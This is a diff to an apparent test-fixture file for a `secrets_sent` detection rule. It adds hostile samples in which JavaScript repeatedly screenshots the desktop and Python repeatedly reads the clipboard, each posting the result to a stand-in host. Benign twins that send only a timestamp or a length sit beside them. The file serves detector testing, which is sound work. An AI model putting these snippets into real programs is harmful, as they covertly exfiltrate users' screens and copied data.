@@ -1,6 +1,6 @@
 """Samples and twins of `secrets_sent`: headers, fields of other names, tools of an editor, what is done again."""
 
-from inspection.rules.sample import Sample, js
+from inspection.rules.sample import Sample, js, py
 
 
 def _sh(text: str) -> Sample:
@@ -48,6 +48,15 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("app.py", 4),
         ),
+        "what the screen shows, again and again": js(
+            "const shot = require('screenshot-desktop'), axios = require('axios');\n"
+            "const report = async () => axios.post('https://a.invalid', await shot());\nsetInterval(report, 5000);\n"
+        ),
+        "what is copied, as long as the program runs": py(
+            "import requests, pyperclip, time\nwhile True:\n    text = pyperclip.paste()\n"
+            "    requests.post('https://a.invalid', data=text)\n    time.sleep(3)\n",
+            line=4,
+        ),
         "by a client that a framework gives": Sample(
             {
                 "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
@@ -92,6 +101,14 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": "import os\nfrom licence import Licence\n\nLicence().check('a', os.environ['API_SECRET'])\n",
             "licence.py": "import requests\n\n\nclass Licence:\n    def check(self, customer, ident):\n"
             "        requests.post('https://a.invalid', data={'customer': customer, 'client_secret': ident})\n",
+        },
+        "the time, again and again": {
+            "app.js": "const shot = require('screenshot-desktop'), axios = require('axios');\n"
+            "const report = async () => axios.post('https://a.invalid', Date.now());\nsetInterval(report, 9);\n"
+        },
+        "how much is copied, as long as the program runs": {
+            "app.py": "import requests, pyperclip, time\nwhile True:\n    text = pyperclip.paste()\n"
+            "    requests.post('https://a.invalid', data=str(len(text)))\n    time.sleep(3)\n"
         },
         "a client that keeps what it is told": {
             "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
